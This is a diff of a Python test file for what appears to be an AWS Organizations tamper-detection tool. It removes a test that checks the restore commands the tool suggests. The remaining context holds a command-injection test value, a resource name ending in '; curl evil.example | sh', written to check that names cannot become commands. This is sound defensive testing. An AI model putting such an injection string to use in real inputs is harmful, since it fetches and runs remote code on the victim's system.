@@ -191,37 +191,6 @@ def test_the_account_affected_is_the_one_named() -> None:
         assert found.account_id == MEMBER
 
 
-@pytest.mark.parametrize(
-    ("name", "command"),
-    [
-        (
-            "forwarding_rule_disabled",
-            f"aws events enable-rule --region us-east-1 --name {RULE}",
-        ),
-        (
-            "forwarding_rule_deleted",
-            "--stack-set-name rootwarden-forwarding --regions us-east-1 --deployment-targets",
-        ),
-        ("hub_bus_policy_changed", "--stack-name RootWardenHub --change-set-name put-back"),
-        (
-            "detach_deny_root_policy",
-            "aws organizations attach-policy --policy-id p-denyroot1 --target-id ou-ab12-11111111",
-        ),
-        ("disable_stack_sets_access", "aws cloudformation activate-organizations-access --region us-east-1"),
-        (
-            "deregister_stack_sets_administrator",
-            "register-delegated-administrator --account-id 555566667777 --service-principal member.org.stack",
-        ),
-    ],
-)
-def test_what_was_taken_down_comes_with_the_command_that_puts_it_back(name: str, command: str) -> None:
-    found = judge(name)
-
-    assert found is not None
-    assert found.put_back is not None
-    assert command in found.put_back
-
-
 def test_a_name_cannot_become_a_command() -> None:
     name = "StackSet-rootwarden-x; curl evil.example | sh"
 
